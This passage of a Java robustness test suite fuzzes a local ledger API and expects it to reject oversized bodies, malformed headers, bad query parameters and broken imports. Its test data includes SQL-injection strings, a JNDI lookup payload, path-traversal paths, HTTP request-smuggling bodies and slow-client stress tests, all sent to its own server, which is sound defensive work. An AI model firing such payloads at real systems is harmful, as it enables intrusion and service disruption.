        probe("oversized", "declared 10 GB, sent little",
                request("POST", API + "/exchanges", null).header("Content-Length", "10000000000")
                        .rawBody(justOver, false), is(400, 413));
        probe("oversized", "declared 2^63", request("POST", API + "/exchanges", null)
                .header("Content-Length", "9223372036854775808").rawBody(new byte[10], false), is(400, 413));
        probe("oversized", "GET with a 2 MiB body", request("GET", API + "/units", null).rawBody(justOver, true),
                is(200, 400, 413));
        probe("oversized", "DELETE with a 2 MiB body",
                request("DELETE", API + "/units/nothing-here", null).rawBody(justOver, false), is(400, 404, 413));
    }

    private void contentTypes() {
        List<String> types = List.of("", "text/plain", "application/xml", "text/json", "application/jsonx",
                "application/json; charset=latin1", "application/json; charset=utf-16", "application/json;charset=",
                "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "*/*", "application/*",
                "application/problem+json", "application/merge-patch+json", "application/x-ndjson", "text/csv",
                "json", "application/json, text/plain", "application/json\u0000", "application/jsön");
        for (Target target : Target.values()) {
            for (String type : types) {
                probe("content-type", target + " " + type,
                        bodyRequest(target, target.template.get().toString().getBytes(StandardCharsets.UTF_8))
                                .header("Content-Type", type),
                        type.chars().anyMatch(ch -> ch == 0 || ch > 0x7e) ? is(400, 415) : is(415));
            }
            probe("content-type", target + " none",
                    bodyRequest(target, target.template.get().toString().getBytes(StandardCharsets.UTF_8)).noContentType(),
                    is(415));
            // Accepted spellings of JSON: these may create records (tracked), never fail.
            for (String type : List.of("APPLICATION/JSON", "application/json; charset=UTF-8",
                    "application/json; charset=\"utf-8\"", "application/json;foo=bar")) {
                probe("content-type", target + " " + type,
                        bodyRequest(target, target.template.get().toString().getBytes(StandardCharsets.UTF_8))
                                .header("Content-Type", type), is(201));
            }
        }
    }

    private void queryParameters() {
        List<String> listValues = List.of("limit=-1", "limit=0", "limit=501", "limit=1e3", "limit=abc", "limit=",
                "limit=99999999999999999999", "limit=1.5", "limit=%2B5", "limit=0x10", "limit=1&limit=2", "limit=%00",
                "cursor=garbage", "cursor=", "cursor=%00", "cursor=eyJ4IjoxfQ", "cursor=AAAA", "cursor=%2F%2F%2F%2F",
                "cursor=MTIz", "cursor=LTE", "cursor=" + "A".repeat(4000), "cursor=a&cursor=b", "cursor=%FF%FE",
                "format=xml", "format=", "format=csv&format=json", "unknown=1", "form=2024-01-01", "LIMIT=5",
                "limit", "&&&", "=x", "%zz=1", "limit=%zz", "a[b]=c", "limit[]=5");
        for (String resource : List.of("units", "cohorts", "exchanges", "reports")) {
            for (String q : listValues) {
                probe("query-parameter", resource + "?" + q, request("GET", API + "/" + resource + "?" + q, null),
                        // Cursors carry a checksum: only an empty one (read as absent) is not a 400.
                        q.equals("&&&") || q.equals("=x") || q.equals("cursor=") ? is(200, 400)
                                : q.startsWith("format=") ? is(400, 406) : is(400));
            }
        }
        List<String> exchangeFilters = List.of("from=2024-02-30", "from=2024-13-01", "from=24-01-01", "from=2024-1-1",
                "to=+999999999-01-01", "from=2024-12-30T00:00:00Z", "from=2025-01-01&to=2024-01-01",
                "from=1970-01-01&from=2000-01-01", "kind=robots", "kind=", "unit=AFU", "unit=nobody",
                "cohort=%00", "q=", "q=%22", "q=*", "q=NEAR(a%20b)", "q=a%20AND", "q=OR", "q=(", "q=)", "q=-x",
                "q=col:x", "q=^x", "q=%7Ba%20b%7D", "q=a%22b", "q=%27", "q=%25", "q=" + "x".repeat(5000),
                "q=%E2%80%AE", "mediator=%27%3B%20DROP%20TABLE%20exchange%3B%20--", "operation=%25n%25s",
                "q=afu&q=tro", "from=0000-00-00", "to=-2024-01-01");
        for (String q : exchangeFilters) {
            boolean mayMatch = q.startsWith("kind=") && q.equals("kind=") || q.startsWith("q=") && !q.contains("&")
                    || q.startsWith("unit=") || q.startsWith("cohort=") || q.startsWith("mediator=")
                    || q.startsWith("operation=") || q.equals("from=2025-01-01&to=2024-01-01");
            probe("query-parameter", "exchanges?" + q, request("GET", API + "/exchanges?" + q, null),
                    mayMatch ? is(200, 400) : is(400));
        }
        for (String stat : List.of("summary", "yearly", "periods", "units", "cohorts/azovstal", "first-returns",
                "reconciliation")) {
            for (String q : List.of("from=2024-02-30", "to=garbage", "from=2024-01-01&from=2024-01-02", "limit=5",
                    "unknown=1", "format=pdf", "interval=week", "cumulative=yes", "interval=", "cumulative=TRUE",
                    "interval=month&interval=year", "from=9999-99-99", "to=2024-12-30T00:00")) {
                probe("query-parameter", stat + "?" + q, request("GET", API + "/stats/" + stat + "?" + q, null),
                        stat.equals("periods") && (q.equals("cumulative=TRUE") || q.equals("interval=")) ? is(200, 400)
                                // first-returns pages like a list: limit=5 is a valid page size there
                                : stat.equals("first-returns") && q.equals("limit=5") ? is(200)
                                : q.startsWith("format=") ? is(400, 406) : is(400));
            }
        }
        probe("query-parameter", "history?limit=1",
                request("GET", API + "/exchanges/" + setupExchange + "/history?limit=1", null), is(400));
        probe("query-parameter", "POST with ?dryRun", request("POST", API + "/exchanges?dryRun=true",
                exchange().toString()), is(400));
        probe("query-parameter", "GET one with ?x", request("GET", API + "/units/afu?x=1", null), is(400));
    }

    private void headers() {
        String unitBody = "{\"name\": \"Armed Forces\"}";
        for (String ifMatch : List.of("*", "", "\"\"", "\"abc\"", "W/", "W/\"\"", "\"1\", \"2\"", "\"9999999999\"",
                "\"-1\"", "\"0\"", "1.5", "\"1", "1\"", "w/\"1\"", "\"1\" ; x", "\"" + "9".repeat(5000) + "\"",
                "\"0x1\"", "\"１\"", "\"1\"\u0000")) {
            boolean nul = ifMatch.indexOf('\u0000') >= 0;
            probe("header", "If-Match unit " + ifMatch,
                    request("PUT", API + "/units/afu", unitBody).header("If-Match", ifMatch),
                    ifMatch.equals("\"0\"") ? is(412) : nul ? is(400) : is(400, 412));
            probe("header", "If-Match exchange " + ifMatch,
                    request("PUT", API + "/exchanges/" + setupExchange, exchange().toString()).header("If-Match", ifMatch),
                    ifMatch.equals("\"0\"") ? is(412) : nul ? is(400) : is(400, 412));
        }
        probe("header", "PUT exchange without If-Match",
                request("PUT", API + "/exchanges/" + setupExchange, exchange().toString()), is(428));
        probe("header", "PUT unit without If-Match", request("PUT", API + "/units/afu", unitBody), is(428));
        probe("header", "two If-Match headers", request("PUT", API + "/units/afu", unitBody)
                .header("If-Match", "\"7\"").header("If-Match", "\"8\""), is(400, 412));
        for (String inm : List.of("*", "garbage", "\"9999999999\"", ",,,", "\"1", "W/", "\"" + "1".repeat(6000) + "\"",
                "\"2\", garbage, *x")) {
            probe("header", "If-None-Match " + inm.length(),
                    request("GET", API + "/units/afu", null).header("If-None-Match", inm),
                    inm.equals("*") ? is(304) : is(200, 400));
        }
        for (String auth : List.of("Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "Bearer a b", "Bearer\t" + writeToken,
                "Bearer " + writeToken + "x", "Bearer " + "t".repeat(7000), "Token " + writeToken, "Bearer  ",
                writeToken, "Bearer " + readToken, "Bearer " + writeToken.toUpperCase(), "Bearer \"" + writeToken + "\"",
                "Bearer " + writeToken + "\u0000", "Bearer ' OR '1'='1", "Bearer ${jndi:ldap://x}",
                "Bearer " + writeToken + ", Bearer " + writeToken)) {
            boolean tabbed = auth.startsWith("Bearer\t");
            probe("header", "Authorization on write: " + auth.length(),
                    request("PUT", API + "/units/afu", unitBody).header("Authorization", auth),
                    tabbed ? is(401, 428) : auth.equals("Bearer " + readToken) ? is(403) : is(400, 401));
            probe("header", "Authorization on read: " + auth.length(),
                    request("GET", API + "/units", null).header("Authorization", auth),
                    tabbed || auth.equals("Bearer " + readToken) ? is(200, 401) : is(400, 401));
        }
        probe("header", "no Authorization on write", request("PUT", API + "/units/h-noauth", unitBody).noAuth(),
                is(401));
        probe("header", "read token writes", request("POST", API + "/exchanges", exchange().toString())
                .header("Authorization", "Bearer " + readToken), is(403));
        probe("header", "two Authorization headers", request("POST", API + "/exchanges", exchange().toString())
                .noAuth().header("Authorization", "Bearer " + writeToken).header("Authorization", "Bearer nope"),
                is(201, 400, 401));
        for (String key : List.of("", " ", "a b", "k".repeat(256), "k".repeat(10_000), "ключ", "a\u0000b",
                "\u007f", "tab\tkey")) {
            probe("header", "Idempotency-Key of " + key.length(),
                    request("POST", API + "/exchanges", exchange().toString()).header("Idempotency-Key", key),
                    key.indexOf('\u0000') >= 0 || key.length() > 8000 ? is(400, 431) : is(400));
        }
        String reused = "hostile-key-" + System.nanoTime();
        probe("header", "Idempotency-Key first use",
                request("POST", API + "/exchanges", exchange().toString()).header("Idempotency-Key", reused), is(201));
        probe("header", "Idempotency-Key replay",
                request("POST", API + "/exchanges", exchange().toString()).header("Idempotency-Key", reused), is(201));
        probe("header", "Idempotency-Key with another body",
                requestBytes("POST", API + "/exchanges", with(exchange(), "/returned", "11"))
                        .header("Idempotency-Key", reused), is(422));
        probe("header", "Idempotency-Key with an invalid body",
                requestBytes("POST", API + "/exchanges", with(exchange(), "/returned", "\"x\""))
                        .header("Idempotency-Key", reused), is(422));
        for (String accept : List.of("text/csv;q=abc", "*/*;q=2", "garbage", "text/csv, application/json;q=0",
                "application/xml", "", "text/*", "application/json;q=-1", ";;;,,,")) {
            probe("header", "Accept " + accept, request("GET", API + "/exchanges", null).header("Accept", accept),
                    is(200, 400, 406));
        }
        probe("header", "Content-Length negative", request("POST", API + "/exchanges", null)
                .header("Content-Length", "-1").rawBody(new byte[0], false), is(400, 411));
        probe("header", "Content-Length not a number", request("POST", API + "/exchanges", null)
                .header("Content-Length", "abc").rawBody(new byte[0], false), is(400, 411));
        probe("header", "Content-Length twice, different", request("POST", API + "/exchanges", null)
                .header("Content-Length", "2").header("Content-Length", "3").rawBody("{}x".getBytes(), false), is(400));
        probe("header", "Content-Length and chunked (smuggling)", request("POST", API + "/exchanges", null)
                .header("Content-Length", "4").header("Transfer-Encoding", "chunked")
                .rawBody("0\r\n\r\nGET /api/v1/units HTTP/1.1\r\nHost: x\r\n\r\n".getBytes(), false), is(400, 422));
        probe("header", "Transfer-Encoding gzip", request("POST", API + "/exchanges", null)
                .header("Transfer-Encoding", "gzip").rawBody("{}".getBytes(), false), is(400));
        probe("header", "bad chunk size", request("POST", API + "/exchanges", null)
                .header("Transfer-Encoding", "chunked").rawBody("zz\r\n{}\r\n0\r\n\r\n".getBytes(), false), is(400));
        probe("header", "overflowing chunk size", request("POST", API + "/exchanges", null)
                .header("Transfer-Encoding", "chunked")
                .rawBody("ffffffffffffffffffff\r\n{}\r\n0\r\n\r\n".getBytes(), false), is(400, 413));
        probe("header", "Content-Encoding gzip, not gzip",
                request("POST", API + "/exchanges", exchange().toString()).header("Content-Encoding", "gzip"),
                is(400, 415, 201));
        probe("header", "Expect: 100-continue", requestBytes("POST", API + "/exchanges", with(exchange(), "/returned", "-5"))
                .header("Expect", "100-continue"), is(422));
        probe("header", "Expect: nonsense", request("POST", API + "/exchanges", exchange().toString())
                .header("Expect", "the-unexpected"), is(400, 417, 201));
    }

    private void imports() {
        String ndjson = "application/x-ndjson";
        List<String[]> cases = List.of(
                new String[] {ndjson, "{\"type\":\"unit\",\"id\":\"imp-a\",\"name\":\"A\"}\n{\"type\":\"unit\",\"id\":"},
                new String[] {ndjson, "{\"type\":\"unit\",\"id\":\"imp-b\",\"name\":\"B\"}\nnot json\n"
                        + "{\"type\":\"cohort\",\"id\":\"imp-c\",\"name\":\"C\"}\n"},
                new String[] {ndjson, "{\"type\":\"robot\"}\n"},
                new String[] {ndjson, "{\"type\":null}\n{}\n[]\n1\n\"x\"\n"},
                new String[] {ndjson, "{\"type\":\"exchange\",\"date\":\"2024-02-30\",\"returned\":1}\n"},
                new String[] {ndjson, "{\"type\":\"exchange\",\"date\":\"2024-01-01\",\"kind\":\"prisoners\","
                        + "\"returned\":1e309}\n"},
                new String[] {ndjson, "\uFEFF{\"type\":\"unit\",\"id\":\"imp-d\",\"name\":\"D\"}\r\n{\"type\":\"unit\"}\r\n"},
                new String[] {ndjson, "{\"type\":\"unit\",\"id\":\"imp-e\",\"name\":\"E\",\"name\":\"E2\"}\n"},
                new String[] {ndjson, "[".repeat(50_000) + "\n"},
                new String[] {ndjson, "{\"type\":\"unit\",\"id\":\"imp-f\",\"name\":\"" + "x".repeat(2_100_000) + "\"}\n"},
                new String[] {ndjson, "{\"type\":\"unit\",\"id\":\"../etc\",\"name\":\"x\"}\n"},
                new String[] {ndjson, "{\"type\":\"unit\",\"id\":\"imp-g\",\"name\":\"G\"}\n\u0000\n"},
                new String[] {ndjson, "{\"type\":\"exchange\",\"id\":\"'; DROP TABLE exchange; --\",\"date\":\"2024-01-01\","
                        + "\"kind\":\"prisoners\",\"returned\":1}\n"},
                new String[] {"text/csv", "date,kind,returned\n2024-01-01,prisoners,1\n\"2024-01-02,prisoners,2\n"},
                new String[] {"text/csv", "date,kind,returned\n2024-01-01,prisoners\n"},
                new String[] {"text/csv", "date,kind,returned\n2024-01-01,prisoners,1,extra,extra\n"},
                new String[] {"text/csv", "\uFEFFdate,kind,returned\r\n2024-01-01,prisoners,1\r\n2024-01-01,prisoners,x\r\n"},
                new String[] {"text/csv", "date,kind,returned\r\n2024-01-01,prisoners,1\r\nbad,line,here\r\n"
                        + "2024-01-03,prisoners,3\r\n"},
                new String[] {"text/csv", "date,kind,returned,breakdown\n2024-01-01,prisoners,5,afu:x;tro\n"},
                new String[] {"text/csv", "date,kind,returned,breakdown\n2024-01-01,prisoners,5,afu:9;tro:9\n"},
                new String[] {"text/csv", "nonsense,columns\n1,2\n"},
                new String[] {"text/csv", "date,date,kind,returned\n2024-01-01,2024-01-01,prisoners,1\n"},
                new String[] {"text/csv", ""},
                new String[] {"text/csv", "date,kind,returned,notes\n2024-01-01,prisoners,1,\"" + "n".repeat(2_100_000)
                        + "\"\n"},
                new String[] {"text/csv", "date,kind,returned\n2024-01-01,prisoners,9223372036854775808\n"},
                new String[] {"text/csv", "date,kind,returned\n2024-01-01,prisoners,\"1\"\"\"\n"},
                new String[] {"application/json", "{\"type\":\"unit\",\"id\":\"imp-h\",\"name\":\"H\"}\n"},
                new String[] {"text/plain", "date,kind,returned\n"},
                new String[] {"", "{}"});
        for (String[] c : cases) {
            String label = c[0] + " " + c[1].substring(0, Math.min(40, c[1].length())).replace("\n", "\\n");
            byte[] body = c[1].getBytes(StandardCharsets.UTF_8);
            // An empty CSV (not even a header row) imports nothing: 200 with zero counts is as clean as a 4xx.
            Expectation expect = c[1].isEmpty() ? is(200, 400, 422) : refused();
            probe("import", label, request("POST", API + "/import", null).contentType(c[0]).rawBody(body, false),
                    expect);
            probe("import", label + " chunked", request("POST", API + "/import", null).contentType(c[0])
                    .rawBody(body, true), expect);
            probe("import", label + " dry run", request("POST", API + "/import?dryRun=true", null).contentType(c[0])
                    .rawBody(body, false), expect);
        }
        byte[] invalidUtf8 = concat("{\"type\":\"unit\",\"id\":\"imp-i\",\"name\":\"".getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xC3, 0x28, '"', '}', '\n'});
        probe("import", "invalid UTF-8 line", request("POST", API + "/import", null).contentType(ndjson)
                .rawBody(invalidUtf8, false), refused());
        probe("import", "without a token", request("POST", API + "/import", null).noAuth().contentType(ndjson)
                .rawBody("{}".getBytes(), false), refused());
        probe("import", "with a read token", request("POST", API + "/import", null).contentType(ndjson)
                .header("Authorization", "Bearer " + readToken).rawBody("{}".getBytes(), false), refused());
        probe("import", "dryRun=maybe", request("POST", API + "/import?dryRun=maybe", null).contentType(ndjson)
                .rawBody("{\"type\":\"unit\",\"id\":\"imp-j\",\"name\":\"J\"}\n".getBytes(), false), refused());
        probe("import", "valid lines, dry run only", request("POST", API + "/import?dryRun=true", null)
                .contentType(ndjson).rawBody("{\"type\":\"unit\",\"id\":\"imp-k\",\"name\":\"K\"}\n".getBytes(), false),
                is(200, 404, 405));
        probe("import", "GET /import", request("GET", API + "/import", null), is(404, 405));
        probe("import", "export with junk parameters", request("GET", API + "/export?format=xml&x=1", null),
                is(400, 404));
    }

    private void rawSocket() {
        String host = "Host: 127.0.0.1:" + server.port() + "\r\n";
        List<String[]> lines = List.of(
                new String[] {"garbage", "GARBAGE\r\n\r\n"},
                new String[] {"method only", "GET\r\n\r\n"},
                new String[] {"HTTP/9.9", "GET /api/v1/units HTTP/9.9\r\n" + host + "\r\n"},
                new String[] {"HTTP/1.1 without Host", "GET /api/v1/units HTTP/1.1\r\nConnection: close\r\n\r\n"},
                new String[] {"two Hosts", "GET /api/v1/units HTTP/1.1\r\n" + host + host + "Connection: close\r\n\r\n"},
                new String[] {"double spaces", "GET  /api/v1/units  HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"long method", "A".repeat(10_000) + " /api/v1/units HTTP/1.1\r\n" + host + "\r\n"},
                new String[] {"unknown method", "BREW /api/v1/units HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"TRACE", "TRACE /api/v1/units HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"absolute URI", "GET http://evil.example/api/v1/units HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"asterisk", "GET * HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"CONNECT", "CONNECT 127.0.0.1:22 HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"lone percent", "GET /api/v1/units/% HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"bad percent", "GET /api/v1/units/%zz HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"half percent", "GET /api/v1/units/%4 HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"bad percent in query", "GET /api/v1/exchanges?q=%zz HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"overlong UTF-8 in path", "GET /api/v1/units/%c0%ae%c0%ae/ HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"encoded slash", "GET /api/v1/units/..%2F..%2Fetc HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"encoded NUL", "GET /api/v1/units/afu%00 HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"raw space in path", "GET /api/v1/units/a b HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"raw tab in path", "GET /api/v1/units/a\tb HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"raw UTF-8 in path", "GET /api/v1/units/ａｆｕ HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"14 KB URI", "GET /api/v1/units/" + "a".repeat(14_000) + " HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"100 KB query", "GET /api/v1/exchanges?q=" + "a".repeat(100_000) + " HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"100 KB header", "GET /api/v1/units HTTP/1.1\r\n" + host + "X-Big: " + "b".repeat(100_000)
                        + "\r\nConnection: close\r\n\r\n"},
                new String[] {"5000 headers", "GET /api/v1/units HTTP/1.1\r\n" + host
                        + "X-H: 1\r\n".repeat(5000) + "Connection: close\r\n\r\n"},
                new String[] {"header without colon", "GET /api/v1/units HTTP/1.1\r\n" + host + "NoColonHere\r\n"
                        + "Connection: close\r\n\r\n"},
                new String[] {"space before colon", "GET /api/v1/units HTTP/1.1\r\n" + host + "X-Bad : 1\r\n"
                        + "Connection: close\r\n\r\n"},
                new String[] {"obs-fold", "GET /api/v1/units HTTP/1.1\r\n" + host + "X-Fold: a\r\n  b\r\n"
                        + "Connection: close\r\n\r\n"},
                new String[] {"NUL in header", "GET /api/v1/units HTTP/1.1\r\n" + host + "X-Nul: a\u0000b\r\n"
                        + "Connection: close\r\n\r\n"},
                new String[] {"bare LF", "GET /api/v1/units HTTP/1.1\n" + host.replace("\r", "") + "Connection: close\n\n"},
                new String[] {"bare CR", "GET /api/v1/units HTTP/1.1\r" + host + "Connection: close\r\n\r\n"},
                new String[] {"HTTP/1.0", "GET /api/v1/units HTTP/1.0\r\n\r\n"},
                new String[] {"HTTP/0.9", "GET /api/v1/units\r\n\r\n"},
                new String[] {"lowercase method", "get /api/v1/units HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n"},
                new String[] {"HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
                new String[] {"TLS hello", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003"},
                new String[] {"control bytes", "\u0000\u0001\u0002\u0003\r\n\r\n"},
                new String[] {"request line only, no end", "GET /api/v1/units HTTP/1.1\r\n" + host + "Connection: close\r\n"
                        + "X-Unfinished: 1"},
                new String[] {"query with raw UTF-8", "GET /api/v1/exchanges?q=Кра HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"invalid UTF-8 in path", "GET /api/v1/units/%ff%fe HTTP/1.1\r\n" + host
                        + "Connection: close\r\n\r\n"},
                new String[] {"pipelined valid then garbage", "GET /api/v1/units HTTP/1.1\r\n" + host + "\r\n"
                        + "GARBAGE\r\n\r\n"});
        for (String[] line : lines) {
            byte[] bytes = line[1].getBytes(StandardCharsets.UTF_8);
            if (line[0].equals("invalid UTF-8 in path") || line[0].equals("TLS hello")) {
                bytes = line[1].getBytes(StandardCharsets.ISO_8859_1);
            }
            boolean mayClose = Set.of("garbage", "method only", "TLS hello", "control bytes",
                    "request line only, no end", "HTTP/0.9", "HTTP/2 preface", "long method").contains(line[0]);
            probeRaw(line[0], bytes, mayClose);
        }
        byte[] rawByte = concat("GET /api/v1/units/".getBytes(StandardCharsets.US_ASCII),
                new byte[] {(byte) 0xFF, (byte) 0xC3, 0x28},
                (" HTTP/1.1\r\n" + host + "Connection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
        probeRaw("invalid UTF-8 bytes in path", rawByte, false);
        byte[] rawHeader = concat(("GET /api/v1/units HTTP/1.1\r\n" + host + "X-Bytes: ").getBytes(StandardCharsets.US_ASCII),
                new byte[] {(byte) 0xFF, (byte) 0xC3, 0x28},
                "\r\nConnection: close\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        probeRaw("invalid UTF-8 bytes in a header", rawHeader, false);
    }

    // ---------------------------------------------------------------- sending and judging

    /** A request under construction: defaults are a write token, JSON, and Connection: close. */
    private final class Req {
        final String method;
        final String target;
        byte[] body;
        boolean chunked;
        boolean auth = true;
        String contentType = "application/json";
        final List<String[]> extra = new ArrayList<>();

        Req(String method, String target, String body) {
            this.method = method;
            this.target = target;
            this.body = body == null ? null : body.getBytes(StandardCharsets.UTF_8);
        }

        Req header(String name, String value) {
            if (name.equals("Authorization")) {
                auth = false;
            }
            if (name.equals("Content-Type")) {
                contentType = null;
            }
            extra.add(new String[] {name, value});
            return this;
        }

        Req contentType(String type) {
            contentType = type.isEmpty() ? null : type;
            return this;
        }

        Req noAuth() {
            auth = false;
            return this;
        }

        Req noContentType() {
            contentType = null;
            return this;
        }

        Req chunked() {
            chunked = true;
            return this;
        }

        /** A body sent as given; with {@code chunked}, chunked, else with whatever Content-Length the headers say. */
        Req rawBody(byte[] bytes, boolean chunk) {
            body = bytes;
            chunked = chunk;
            return this;
        }

        byte[] head() {
            List<String[]> headers = RawHttp.headers();
            headers.add(new String[] {"Host", "127.0.0.1:" + server.port()});
            headers.add(new String[] {"Connection", "close"});
            if (auth) {
                headers.add(new String[] {"Authorization", "Bearer " + writeToken});
            }
            if (body != null && contentType != null) {
                headers.add(new String[] {"Content-Type", contentType});
            }
            boolean lengthGiven = extra.stream().anyMatch(h -> h[0].equalsIgnoreCase("Content-Length")
                    || h[0].equalsIgnoreCase("Transfer-Encoding"));
            if (body != null && !lengthGiven) {
                headers.add(chunked ? new String[] {"Transfer-Encoding", "chunked"}
                        : new String[] {"Content-Length", Integer.toString(body.length)});
            }
            headers.addAll(extra);
            return RawHttp.head(method + " " + target + " HTTP/1.1", headers);
        }
    }

    // ---------------------------------------------------------------- clients that stall, trickle and pile up

    /** A unit import line: what the slow and concurrent imports below send. */
    private static byte[] unitLine(String id) {
        return ("{\"type\":\"unit\",\"id\":\"" + id + "\",\"name\":\"Imported " + id + "\"}\n")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** Opens a connection with a small receive buffer and sends {@code head} (and any body) on it. */
    private static java.net.Socket open(byte[] head, byte[] body) throws java.io.IOException {
        java.net.Socket socket = new java.net.Socket();
        socket.setReceiveBufferSize(1024);
        socket.connect(new java.net.InetSocketAddress("127.0.0.1", server.port()), 5_000);
        socket.setSoTimeout(20_000);
        socket.getOutputStream().write(head);
        if (body != null) {
            socket.getOutputStream().write(body);
        }
        socket.getOutputStream().flush();
        return socket;
    }

    /** The status line, read byte by byte so that nothing more is taken from the socket. */
    private static String statusLine(java.net.Socket socket) throws java.io.IOException {
        StringBuilder line = new StringBuilder();
        int b;
        while ((b = socket.getInputStream().read()) >= 0 && b != '\n') {
            line.append((char) b);
        }
        return line.toString().strip();
    }

    private static void closeAll(List<java.net.Socket> sockets) {
        for (java.net.Socket socket : sockets) {
            try {
                socket.close();
            } catch (java.io.IOException ignored) {
                // closing is all that is asked of it
            }
        }
    }

    /** Clients that ask for the whole ledger, read the status line and stop: writes and health go on. */
    private void slowReaders() throws Exception {
        List<java.net.Socket> stalled = new ArrayList<>();
        try {
            for (String target : List.of(API + "/export", API + "/exchanges?format=csv", API + "/units?format=csv",
                    API + "/stats/units?format=csv", API + "/export", API + "/export", API + "/exchanges?format=csv",
                    API + "/export")) {
                sentByKind.merge("slow-reader", 1, Integer::sum);
                java.net.Socket socket = open(request("GET", target, (String) null).noAuth().head(), null);
                stalled.add(socket);
                String status = statusLine(socket);
                if (!status.startsWith("HTTP/1.1 200")) {
                    failures.add("slow-reader GET " + target + ": " + status);
                }
            }
            ObjectNode exchange = exchange();
            exchange.put("ref", "while-readers-stall");
            probe("slow-reader", "POST exchange while readers stall", request("POST", API + "/exchanges",
                    exchange.toString()), is(201));
            probe("slow-reader", "PUT unit while readers stall", request("PUT", API + "/units/while-readers-stall",
                    unit().toString()), is(201));
            probe("slow-reader", "GET /health while readers stall", request("GET", "/health", (String) null).noAuth(),
                    is(200));
        } finally {
            closeAll(stalled);
        }
    }

    /** Imports whose bodies trickle (dry runs and real ones): writes go on, and each upload ends cleanly. */
    private void slowUploads() throws Exception {
        List<java.net.Socket> trickling = new ArrayList<>();
        List<String> ids = new ArrayList<>();
        try {
            for (int i = 0; i < 4; i++) {
                String id = "trickled-" + i;
                boolean dryRun = i % 2 == 0;
                byte[] body = unitLine(id);
                Req req = request("POST", API + "/import" + (dryRun ? "?dryRun=true" : ""), null)
                        .header("Content-Type", "application/x-ndjson")
                        .header("Content-Length", Integer.toString(body.length));
                sentByKind.merge("slow-upload", 1, Integer::sum);
                trickling.add(open(req.head(), java.util.Arrays.copyOf(body, 10)));
                if (!dryRun) {
                    ids.add(id);
                }
            }
            ObjectNode exchange = exchange();
            exchange.put("ref", "while-uploads-trickle");
            long started = System.nanoTime();
            probe("slow-upload", "POST exchange while uploads trickle", request("POST", API + "/exchanges",
                    exchange.toString()), is(201));
            long ms = (System.nanoTime() - started) / 1_000_000;
            if (ms > 3_000) {
                failures.add("slow-upload: a write waited " + ms + " ms behind trickling uploads");
            }
            for (int i = 0; i < trickling.size(); i++) {
                byte[] body = unitLine("trickled-" + i);
                java.net.Socket socket = trickling.get(i);
                socket.getOutputStream().write(body, 10, body.length - 10);
                socket.getOutputStream().flush();
                String status = statusLine(socket);
                if (!status.startsWith("HTTP/1.1 200")) {
                    failures.add("slow-upload " + i + ": " + status);
                }
            }
            ids.forEach(expected.get("units")::add);
            // One that never finishes its body: the connection is simply closed; nothing may be imported.
            sentByKind.merge("slow-upload", 1, Integer::sum);
            byte[] abandoned = unitLine("abandoned-upload");
            java.net.Socket left = open(request("POST", API + "/import", null)
                    .header("Content-Type", "application/x-ndjson")
                    .header("Content-Length", Integer.toString(abandoned.length)).head(),
                    java.util.Arrays.copyOf(abandoned, 12));
            trickling.add(left);
        } finally {
            closeAll(trickling);
        }
    }

    /** Exports and imports at once, from several clients: every answer clean, every import acknowledged. */
    private void concurrentExportsAndImports() throws Exception {
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(8);
        try {
            List<java.util.concurrent.Future<String>> results = new ArrayList<>();
            for (int i = 0; i < 16; i++) {
                int n = i;
                sentByKind.merge("concurrent-export-import", 1, Integer::sum);
                results.add(pool.submit(() -> {
                    try (RawHttp own = new RawHttp(server.port())) {
                        Req req = n % 2 == 0
                                ? request("GET", API + "/export", (String) null).noAuth()
                                : request("POST", API + "/import" + (n % 4 == 1 ? "?dryRun=true" : ""), null)
                                        .contentType("application/x-ndjson").rawBody(unitLine("concurrent-" + n), false);
                        RawHttp.Response r = own.send(req.head(), req.body, false);
                        return r.status() == 200 ? "" : req.method + " " + req.target + ": " + r.status() + " "
                                + (r.failure() != null ? r.failure() : shorten(r.text()));
                    }
                }));
                if (n % 4 == 3) {
                    expected.get("units").add("concurrent-" + n);
                }
            }
            for (java.util.concurrent.Future<String> result : results) {
                String failure = result.get(120, java.util.concurrent.TimeUnit.SECONDS);
                if (!failure.isEmpty()) {
                    failures.add("concurrent-export-import " + failure);
                }
            }
        } finally {
            pool.shutdownNow();
        }
    }

    private Req request(String method, String target, String body) {
        return new Req(method, target, body);
    }

    private Req requestBytes(String method, String target, byte[] body) {
        return new Req(method, target, null).rawBody(body, false);
    }

    private Req bodyRequest(Target target, byte[] body) {
        return requestBytes(target.method, target.path.get(), body);
    }

    private RawHttp.Response body(String kind, Target target, String label, byte[] body, Expectation expect) {
        return probe(kind, target + " " + label, bodyRequest(target, body), expect);
    }

